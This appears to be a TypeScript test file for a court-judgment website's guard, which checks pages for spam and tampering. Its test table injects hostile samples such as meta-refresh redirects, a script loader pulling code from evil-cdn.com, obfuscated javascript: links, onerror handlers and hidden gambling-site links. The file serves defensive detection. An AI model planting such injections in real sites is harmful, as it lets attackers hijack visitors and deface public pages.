import { expect, test } from 'vitest';
import { readSite } from '../../src/content/settings.ts';
import { foreignAddresses, pageProblems } from '../../src/guard/page.ts';
import { belowBase as site } from '../setup/site.ts';

const { data } = await readSite(site.content);
const html = await site.read(site.paths.case('2026/si-da-xianfeng'));

test('no page has what no page of a court may have', async () => {
  for (const url of await site.urls())
    expect(pageProblems(await site.read(url), data!), url).toEqual([]);
});

test('no script, stylesheet or exported file leads elsewhere', async () => {
  expect(foreignAddresses(await site.read('/ssfw/alzd/cases.json'), data!)).toEqual([]);
  expect(foreignAddresses('fetch("https://a.top/x")', data!)).toEqual([
    '有不在名单上的网址 https://a.top',
  ]);
});

test('a page leads to a court that is harvested, and loads nothing from there', () => {
  const problems = (part: string) =>
    pageProblems(html.replace('</main>', `${part}</main>`), data!, ['b.cn']);
  expect(problems('<a href="https://b.cn/a/">原文在 b.cn</a>')).toEqual([]);
  expect(problems('<img src="https://b.cn/a.png" alt="">')).toEqual([
    '<img> 的 src 指向不在名单上的网站：https://b.cn/a.png',
  ]);
  expect(problems('<script>fetch("https://b.cn/")</script>')).toEqual([
    '<script> 里有不在名单上的网址 https://b.cn',
  ]);
});

test.each([
  ['标题末尾没有法院名称', /_华蓥市人民法院<\/title>/, '_www.01365.com</title>'],
  ['标题末尾没有法院名称', /_华蓥市人民法院<\/title>/, '_华蓥市人民法院博彩指定网站</title>'],
  [
    '网页会自动转走，指向不在名单上的网站',
    '<head>',
    '<head><meta http-equiv="refresh" content="0; url=https://a.top/">',
  ],
  [
    '网页会自动转走，写法不对',
    '<head>',
    '<head><meta http-equiv="Refresh" content="0,URL=\'//a.top/\'">',
  ],
  ['文字里有“新葡京”', '</main>', '<img alt="新葡京" src="/a.png"></main>'],
  [
    '<script> 里有不在名单上的网址',
    '</body>',
    '<script>s=createElement("script");s.src="//evil-cdn.com/app.js"</script></body>',
  ],
  [
    '<meta> 的 content 指向不在名单上的网站',
    /(property="og:image" content=")[^"]+/,
    '$1https://a.top/a.png',
  ],
  [
    '<a> 的 href 指向不在名单上的网站',
    '</main>',
    '<template shadowrootmode="open"><a href="https://a.top/">去</a></template></main>',
  ],
  ['标题或说明里有“www.01365.com”', '<title>', '<title>www.01365.com '],
  ['标题或说明里有“澳门新葡京”', '<meta name="description" content="', '$&澳门新葡京'],
  ['页首没有法院名称', /(<p class="masthead-court">)[^<]+/, '$1某某'],
  ['页尾没有法院名称', /(<footer[^]*?)华蓥市人民法院([^]*?主办单位：)华蓥市人民法院/, '$1$2'],
  ['结构化数据没有法院名称', /(ld\+json">[^]*)/, (all: string) => all.replaceAll('华蓥市', '某某')],
  ['<iframe>', '</main>', '<iframe src="/a/"></iframe></main>'],
  ['<base>', '<head>', '<head><base href="https://a.top/">'],
  ['<a> 的 href 指向不在名单上的网站', '</main>', '<a href="//www.01365.com/">去</a></main>'],
  ['<a> 的 href 会执行脚本', '</main>', '<a href="&#106;ava\tscript:alert(1)">去</a></main>'],
  [
    '<img> 的 srcset 指向不在名单上的网站',
    '</main>',
    '<img srcset="/a.png 1x, https://a.top/b.png 2x"></main>',
  ],
  [
    '<script> 的 src 指向不在名单上的网站',
    '</body>',
    '<script src="https://a.top/a.js"></script></body>',
  ],
  [
    '<form> 的 action 指向不在名单上的网站',
    '</main>',
    '<form action="https://a.top/"></form></main>',
  ],
  ['<img> 上有脚本属性 onerror', '</main>', '<IMG src=/a.png OnError=alert(1)></main>'],
  ['<script> 里有不在名单上的网址', '</body>', '<script>location="https://a.top/"</script></body>'],
  [
    '<style> 里有不在名单上的网址',
    '</head>',
    '<style>@import "https://a.top/a.css"</style></head>',
  ],
  ['文字里有“01365.com”', '</main>', '<p>本院与<b>01365</b>.com共建</p></main>'],
  ['文字里有“新葡京”', '</footer>', '<p>友情链接：新<wbr>葡京</p></footer>'],
  [
    '<a> 的 href 指向不在名单上的网站',
    '</main>',
    '<noscript><a href="//a.top">去</a></noscript></main>',
  ],
  ['有隐藏的文字“友情链接”', '</main>', '<div hidden><p>友情链接</p></div></main>'],
  ['有向读者索要密码', '</main>', '<input type="password"></main>'],
  ['<p> 上有 style 属性', '</main>', '<p style="left:-999px;position:absolute">赌</p></main>'],
] as const)('%s is found', (problem, from, to) => {
  const poisoned = html.replace(from, to as string);
  expect(poisoned).not.toBe(html);
  expect(pageProblems(poisoned, data!)).toEqual(
    expect.arrayContaining([expect.stringContaining(problem) as string]),
  );
});
